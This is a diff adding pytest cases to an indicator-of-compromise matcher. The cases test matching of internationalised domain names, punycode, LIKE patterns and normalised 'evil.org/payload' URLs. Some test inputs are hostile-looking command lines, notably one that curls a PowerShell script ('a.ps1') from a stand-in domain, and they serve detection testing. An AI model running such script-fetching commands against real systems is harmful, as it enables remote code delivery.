@@ -146,6 +146,54 @@ def test_a_unicode_domain_indicator_matches_its_punycode_and_back() -> None:
     assert not trail.match({"dns.question.name": "bucher.example"})
 
 
+@pytest.mark.parametrize("name", ["उदाहरण.भारत", "উদাহরণ.ভারত", "ตัวอย่าง.ไทย"])
+def test_an_idn_with_combining_marks_in_a_command_line_is_found(name: str) -> None:
+    """Devanagari, Bengali and Thai names are full of combining marks, which \\w leaves out:
+    the name must be looked up whole, as it is in dns.question.name."""
+    index = stix_index(f"[domain-name:value = '{name}']")
+    assert index.match({"dns.question.name": name})
+    assert index.match({"process.command_line": f"curl https://{name}/a.ps1"})
+    trail = IocIndex(load_trails(f"{name}\n", "t.txt"))  # a trail matches its subdomains
+    assert trail.match({"process.command_line": f"ping cdn.{name}"})
+
+
+def test_a_u_label_tail_in_a_command_line_is_not_a_name_of_its_own() -> None:
+    assert stix_index("[domain-name:value = 'cher.example']").match(
+        {"process.command_line": "ping bücher.example"}
+    ) == []
+    assert stix_index("[domain-name:value = 'bücher.example']").match(
+        {"process.command_line": "ping bücher.example && ping cher.example"}
+    )
+    # An ASCII name next to non-ASCII text that is no part of it is still a name.
+    assert stix_index("[domain-name:value = 'evil.example']").match(
+        {"process.command_line": "écho «evil.example»"}
+    )
+
+
+def test_a_like_pattern_on_an_idn_matches_its_a_label_form() -> None:
+    index = stix_index("[domain-name:value LIKE '%.Bücher.example']")
+    assert index.match({"dns.question.name": "www.bücher.example"})
+    assert index.match({"dns.question.name": "www.xn--bcher-kva.example"})
+    assert not index.match({"dns.question.name": "www.bucher.example"})
+
+
+@pytest.mark.parametrize("seen", ["http://evil.org/pay%6Coad", "http://evil.org/%70ayload",
+                                  "http://evil.org/x/../payload", "http://evil.org/./payload",
+                                  "http://evil.org/x/%2E%2E/payload"])  # fmt: skip
+def test_url_normalisation_decodes_unreserved_escapes(seen: str) -> None:
+    """RFC 3986 6.2.2: the client picks the encoding and the dot segments; the server sees
+    /payload either way."""
+    assert stix_index("[url:value = 'http://evil.org/payload']").match({"url.original": seen})
+    assert IocIndex(load_trails("evil.org/payload\n", "t.txt")).match({"url.full": seen})
+    # Escapes of reserved characters keep their meaning: %2F is not a path separator.
+    assert not stix_index("[url:value = 'http://evil.org/a/b']").match(
+        {"url.original": "http://evil.org/a%2fb"}
+    )
+    assert stix_index("[url:value = 'http://evil.org/a%2fb']").match(
+        {"url.original": "http://evil.org/a%2Fb"}
+    )
+
+
 @pytest.mark.parametrize("seen", ["::ffff:203.0.113.9", "0:0:0:0:0:ffff:203.0.113.9",
                                   "::FFFF:CB00:7109", "::ffff:cb00:7109"])  # fmt: skip
 def test_ipv4_mapped_forms_match_the_ipv4_indicator_on_every_path(seen: str) -> None:
